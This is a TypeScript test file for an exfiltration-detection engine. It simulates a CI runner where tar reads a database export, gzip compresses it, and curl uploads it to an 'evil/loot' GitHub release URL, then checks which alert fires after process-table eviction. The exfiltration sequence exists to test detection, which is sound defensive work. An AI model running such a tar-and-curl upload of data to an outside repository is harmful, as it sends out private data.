/**
 * A parent's last child that left the tables (ProcState.drop) still answers the tar-pipeline check
 * (../../../src/correlate/archive-extractions.ts noteSiblings) as the dropped record did: one that left running is
 * a stage running for good (the tar exec'd beside it is a pipeline's: its archive counts), one that left exited is
 * no stage (a restore's tar run after `mkdir -p`: its archive is kept aside). The drop cuts the record loose, so
 * each answer stands only on what drop leaves in `lastChild`.
 */
import { describe, expect, it } from 'vitest';
import type { SensorSource } from '../../../src/model/normalized-event.js';
import { brief, MiB, run } from './builder.js';
import { GITHUB_IP, runnerPod } from './runner-job.js';

const WORK = '/home/runner/_work/web/web';
const DB = '/srv/exports/db.tar';
const UPLOAD = 'https://uploads.github.com/repos/evil/loot/releases/1/assets?name=d';

/**
 * Under a cap of 3 processes: the shell execs `first` (gzip, left running; or mkdir, exited), a filler clears the
 * CLOCK bits, the shell reads (hot again), and the tar's exec evicts `first` for its slot, before the tar's siblings
 * are checked. Then the tar reads its archive (180 MiB) and curl uploads the 30 MiB gzip wrote.
 */
function tarAfterEvictedSibling(source: SensorSource, first: 'gzip running' | 'mkdir exited'): string[] {
  const { s, c, worker } = runnerPod('web', source);
  s.exec(c, '/usr/sbin/crond', '-f', { parent: worker });
  const sh = s.exec(c, '/bin/sh', `-c "mkdir -p /restore; tar -xf ${DB} | (read -t 3 x; exec gzip) > /tmp/d.gz"`, {
    parent: worker,
  });
  const sibling =
    first === 'gzip running'
      ? s.exec(c, '/usr/bin/gzip', '', { parent: sh, cwd: WORK })
      : s.exec(c, '/bin/mkdir', '-p /restore', { parent: sh, cwd: WORK });
  if (first === 'mkdir exited') s.wait(5).exit(sibling);
  s.wait(1_000);
  s.exec(c, '/bin/true', '', { parent: worker });
  s.read(sh, `${WORK}/Makefile`, 100);
  s.wait(2_000);
  const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB}`, { parent: sh, cwd: WORK });
  for (let i = 0; i < 90; i++) s.read(tar, DB, 2 * MiB, { op: 'read' }).wait(20);
  s.exit(tar).exit(sh);
  const curl = s.exec(c, '/usr/bin/curl', `-T /tmp/d.gz ${UPLOAD}`, { parent: worker, cwd: WORK });
  s.read(curl, '/tmp/d.gz', 30 * MiB);
  s.connect(curl, GITHUB_IP, 443, { cookie: '7' });
  for (let i = 0; i < 15; i++) s.send(curl, GITHUB_IP, 443, 2 * MiB, { cookie: '7' });
  s.wait(300).exit(curl);
  const { alerts } = run(s.events, { config: { caps: { maxProcesses: 3 } } });
  return brief(alerts).map((a) => `${a.rule} ${a.severity} ${a.tool}`);
}

describe("an extracting tar exec'd after its sibling was evicted from the tables", () => {
  it.each<SensorSource>(['tetragon', 'falco'])('the sibling left running: a pipeline, the archive counts (%s)', (s) => {
    expect(tarAfterEvictedSibling(s, 'gzip running')).toEqual(['bulk-read-then-push high curl']);
  });

  it.each<SensorSource>(['tetragon', 'falco'])('the sibling left exited: no pipeline, kept aside (%s)', (s) => {
    expect(tarAfterEvictedSibling(s, 'mkdir exited')).toEqual(['push-after-moderate-reads medium curl']);
  });
});
